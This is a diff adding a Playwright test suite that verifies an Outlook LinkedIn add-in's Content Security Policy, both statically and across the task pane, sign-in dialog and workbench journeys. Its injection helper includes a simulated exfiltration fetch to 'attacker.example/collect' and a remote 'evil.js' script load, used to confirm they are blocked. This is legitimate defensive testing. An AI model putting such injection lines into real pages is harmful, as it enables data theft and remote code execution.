@@ -1,0 +1,223 @@
+// The Content Security Policy of the built pages, in Chromium: present before anything loads, no inline script and
+// no eval, network limited to the add-in's origin, Microsoft Graph and Microsoft sign-in; no violation during the
+// task pane's start, the sign-in dialog and the workbench journeys; and an injected script, eval or request elsewhere
+// is really blocked (so this fails if the policy is removed or loosened). Run: npm run test:e2e
+import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { after, before, describe, test } from 'node:test';
+import { DIST, openWorkbench, reportCspViolations, startHarness } from './harness.mjs';
+
+let harness;
+before(async () => {
+  harness = await startHarness();
+});
+after(async () => {
+  await harness?.close();
+});
+
+const PAGES = ['taskpane.html', 'dialog.html', 'workbench-pane.html', 'index.html', 'api/v1/connection/authorize/index.html'];
+
+/** The policy a built page declares, as directive → sources, and where its <meta> sits. */
+function policyOf(page) {
+  const html = readFileSync(join(DIST, page), 'utf8');
+  const meta = /<meta[^>]*http-equiv=["']?Content-Security-Policy["']?[^>]*>/i.exec(html);
+  assert.ok(meta, `${page} declares a Content Security Policy`);
+  const content = /content=(?:"([^"]*)"|'([^']*)')/i.exec(meta[0]);
+  assert.ok(content, `${page}: the policy has a content attribute`);
+  const directives = new Map(
+    (content[1] ?? content[2])
+      .split(';')
+      .map((part) => part.trim().split(/\s+/))
+      .filter(([name]) => name)
+      .map(([name, ...sources]) => [name, sources]),
+  );
+  const firstScript = html.search(/<script\b/i);
+  const firstLink = html.search(/<link\b/i);
+  return { directives, before: [firstScript, firstLink].every((at) => at === -1 || meta.index < at), text: content[1] ?? content[2] };
+}
+
+const sourcesFor = (directives, name) => directives.get(name) ?? directives.get('default-src') ?? [];
+
+describe('the built pages declare a strict policy', () => {
+  for (const page of PAGES) {
+    test(page, () => {
+      const { directives, before: first } = policyOf(page);
+      assert.ok(first, `${page}: the policy comes before any script or link, so it governs them`);
+      const scripts = sourcesFor(directives, 'script-src');
+      assert.ok(scripts.includes("'self'"), `${page}: scripts from the add-in's origin`);
+      for (const unsafe of ["'unsafe-inline'", "'unsafe-eval'", "'unsafe-hashes'", "'wasm-unsafe-eval'", '*', 'data:', 'blob:', 'http:', 'https:']) {
+        assert.ok(!scripts.includes(unsafe), `${page}: script-src has no ${unsafe}`);
+      }
+      for (const source of scripts.filter((s) => s !== "'self'")) {
+        assert.match(source, /^https:\/\/(appsforoffice\.microsoft\.com|ajax\.aspnetcdn\.com)$/, `${page}: script-src allows only Office.js's CDN besides the origin`);
+      }
+      assert.deepEqual(directives.get('object-src'), ["'none'"], `${page}: no plugins`);
+      assert.deepEqual(directives.get('base-uri'), ["'self'"], `${page}: no <base> elsewhere`);
+      assert.ok(!directives.has('frame-ancestors'), `${page}: frame-ancestors is ignored in a <meta> (Chromium logs an error): it belongs in a header`);
+      const connect = sourcesFor(directives, 'connect-src');
+      for (const source of connect) {
+        assert.ok(["'self'", 'https://graph.microsoft.com', 'https://login.microsoftonline.com'].includes(source), `${page}: connect-src allows ${source}`);
+      }
+    });
+  }
+
+  test('the workbench runs the task pane under the task pane’s own policy', () => {
+    assert.equal(policyOf('workbench-pane.html').text, policyOf('taskpane.html').text);
+    const pane = policyOf('taskpane.html').directives;
+    assert.deepEqual(pane.get('connect-src'), ["'self'", 'https://graph.microsoft.com', 'https://login.microsoftonline.com']);
+    assert.ok(pane.get('img-src')?.includes('https://media.licdn.com'), 'LinkedIn photos may load');
+    assert.deepEqual(policyOf('dialog.html').directives.get('connect-src'), ["'self'"], 'the sign-in dialog talks to nothing but its origin');
+  });
+});
+
+/**
+ * A stand-in for Office.js in Outlook on the web: enough for the production task pane to start and show a mail from
+ * one person. Served where Office's CDN would be, so the page loads it exactly as it loads Office.js.
+ */
+const FAKE_OFFICE_JS = `
+window.Office = {
+  HostType: { Outlook: 'Outlook' },
+  MailboxEnums: { ItemType: { Message: 'message', Appointment: 'appointment' } },
+  EventType: { ItemChanged: 'olkItemSelectedChanged' },
+  AsyncResultStatus: { Succeeded: 'succeeded', Failed: 'failed' },
+  onReady: () => Promise.resolve({ host: 'Outlook', platform: 'OfficeOnline' }),
+  context: {
+    diagnostics: { platform: 'OfficeOnline' },
+    displayLanguage: 'en-US',
+    requirements: { isSetSupported: () => true },
+    roamingSettings: { get: () => undefined, set() {}, remove() {}, saveAsync: (done) => done({ status: 'succeeded' }) },
+    mailbox: {
+      userProfile: { emailAddress: 'megan@contoso.com', displayName: 'Megan Bowen' },
+      item: { itemId: 'item-1', itemType: 'message', subject: 'Hello', from: { emailAddress: 'aiko@fabrikam.com', displayName: 'Aiko Tanaka' }, to: [{ emailAddress: 'megan@contoso.com', displayName: 'Megan Bowen' }], cc: [] },
+      addHandlerAsync: (type, handler, done) => done && done({ status: 'succeeded' }),
+    },
+    ui: { messageParent: (message) => { window.__toPane = message; } },
+  },
+};`;
+
+/** A fresh context for a page of the add-in as Outlook would load it, recording console errors (CSP violations among them). */
+async function openAddInPage(path) {
+  const context = await harness.browser.newContext({ viewport: { width: 320, height: 800 } });
+  await context.route('https://appsforoffice.microsoft.com/**', (route) => route.fulfill({ status: 200, contentType: 'text/javascript', body: FAKE_OFFICE_JS }));
+  await context.route('**/linkedin-policy.json', (route) =>
+    route.fulfill({ status: 200, contentType: 'application/json', body: JSON.stringify({ version: 1, linkedInAccountConnections: 'yes', environment: { cloud: 'worldwide', mailboxGeo: 'NAM', tenantCountry: 'US' } }) }),
+  );
+  await context.addInitScript(reportCspViolations);
+  const errors = [];
+  context.on('page', (page) => {
+    page.on('console', (message) => {
+      if (message.type() === 'error') errors.push(message.text());
+    });
+    page.on('pageerror', (error) => errors.push(String(error)));
+  });
+  const page = await context.newPage();
+  await page.goto(`${harness.base}${path}`);
+  return { context, page, errors };
+}
+
+/** Tries what an attacker's injected markup would: an inline script, eval, a script and a request from elsewhere. */
+async function attemptInjections(frame) {
+  return frame.evaluate(async () => {
+    const seen = [];
+    const listener = (event) => seen.push(event.effectiveDirective);
+    document.addEventListener('securitypolicyviolation', listener);
+    const inline = document.createElement('script');
+    inline.textContent = 'window.__injectedInlineRan = true;';
+    document.head.append(inline);
+    // eval from the page's own tasks (code Playwright evaluates directly is exempt from the policy).
+    const evalResult = await new Promise((resolve) => {
+      setTimeout(() => {
+        try {
+          // eslint-disable-next-line no-eval
+          resolve(window.eval('"eval ran"'));
+        } catch (error) {
+          resolve(error.name);
+        }
+      }, 0);
+    });
+    setTimeout('window.__injectedStringTimerRan = true;', 0);
+    let fetchResult;
+    try {
+      await fetch('https://attacker.example/collect', { method: 'POST', body: 'x' });
+      fetchResult = 'sent';
+    } catch (error) {
+      fetchResult = error.name;
+    }
+    const remote = document.createElement('script');
+    remote.src = 'https://attacker.example/evil.js';
+    await new Promise((resolve) => {
+      remote.onerror = resolve;
+      remote.onload = resolve;
+      document.head.append(remote);
+    });
+    await new Promise((resolve) => setTimeout(resolve, 50));
+    document.removeEventListener('securitypolicyviolation', listener);
+    return { inlineRan: window.__injectedInlineRan === true || window.__injectedStringTimerRan === true, evalResult, fetchResult, violations: [...new Set(seen)].sort() };
+  });
+}
+
+const BLOCKED = { inlineRan: false, evalResult: 'EvalError', fetchResult: 'TypeError', violations: ['connect-src', 'script-src', 'script-src-elem'] };
+
+/** Asserts the page met no violation (nor any error) so far, then that every injection is blocked and reported. */
+async function assertInjectionsBlocked(frame, errors) {
+  assert.deepEqual(errors, [], 'no CSP violation (nor any other error) before the injections');
+  assert.deepEqual(await attemptInjections(frame), BLOCKED);
+  assert.ok(errors.length > 0 && errors.every((text) => /CSP violation|Content Security Policy|attacker\.example/.test(text)), `the blocked injections, and only they, are reported:\n${errors.join('\n')}`);
+  errors.length = 0;
+}
+
+describe('in Chromium: nothing the add-in does is blocked; what an attacker would inject is', () => {
+  test('the production task pane starts and shows the card without a violation', async () => {
+    const session = await openAddInPage('taskpane.html');
+    // No Entra app in this build: the lookup can't get a token and says so; the pane, its sections and Fluent all ran.
+    await session.page.getByRole('option', { name: /Aiko Tanaka/ }).waitFor();
+    await session.page.getByRole('heading', { name: 'Settings' }).waitFor();
+    await session.page.getByText("The add-in couldn't sign in to the LinkedIn service.").waitFor();
+    await session.page.waitForTimeout(300);
+    await session.context.close();
+    assert.deepEqual(session.errors, [], 'no CSP violation (nor any other error)');
+  });
+
+  test('in the task pane an injected inline script, eval, a foreign script and a request elsewhere are all blocked', async () => {
+    const session = await openAddInPage('taskpane.html');
+    await session.page.getByRole('option', { name: /Aiko Tanaka/ }).waitFor();
+    await assertInjectionsBlocked(session.page.mainFrame(), session.errors);
+    await session.context.close();
+  });
+
+  test('the sign-in dialog goes to the authorize page and back without a violation, and blocks injections', async () => {
+    const state = 'A'.repeat(43);
+    const session = await openAddInPage(`dialog.html?state=${state}&challenge=${'B'.repeat(43)}&consent=twoWay`);
+    const { page } = session;
+    // The (simulated) authorize page on the same origin, under its own policy.
+    await page.getByRole('button', { name: 'Allow' }).click();
+    await page.getByText('Done. You can close this window.').waitFor();
+    assert.match(await page.evaluate(() => window.__toPane), /"outcome":"code"/, 'the dialog answered the pane through Office');
+    await assertInjectionsBlocked(page.mainFrame(), session.errors);
+    await session.context.close();
+  });
+
+  test('the workbench: read, switch, connect in the dialog, disconnect — no violation anywhere; injections blocked in its pane', async () => {
+    const session = await openWorkbench(harness);
+    const { page, pane, context } = session;
+    await pane.getByText('Partnerships lead at Fabrikam · B2B SaaS').waitFor();
+    await pane.getByRole('option', { name: /Alex Wilber/ }).click();
+    await pane.getByText('Finance manager at Contoso').waitFor();
+    await pane.getByRole('option', { name: /Aiko Tanaka/ }).click();
+    await pane.getByRole('button', { name: 'Connect your LinkedIn account' }).click();
+    await pane.getByRole('radio', { name: 'Share data both ways' }).check();
+    const [popup] = await Promise.all([context.waitForEvent('page'), pane.getByRole('button', { name: 'Continue to LinkedIn' }).click()]);
+    await popup.getByRole('button', { name: 'Allow' }).click();
+    await pane.getByText('12 mutual connections').waitFor();
+    await pane.getByRole('button', { name: 'Show people you work with' }).click();
+    await pane.getByRole('button', { name: 'Show people you work with' }).waitFor({ state: 'detached' });
+    await pane.getByRole('button', { name: 'Disconnect' }).click();
+    await pane.getByRole('button', { name: 'Disconnect' }).click();
+    await pane.getByText(/Your LinkedIn account is disconnected/).waitFor();
+    const frame = page.frames().find((candidate) => candidate.url().includes('workbench-pane'));
+    await assertInjectionsBlocked(frame, session.errors);
+    await context.close();
+    assert.deepEqual(session.errors, []);
+  });
+});
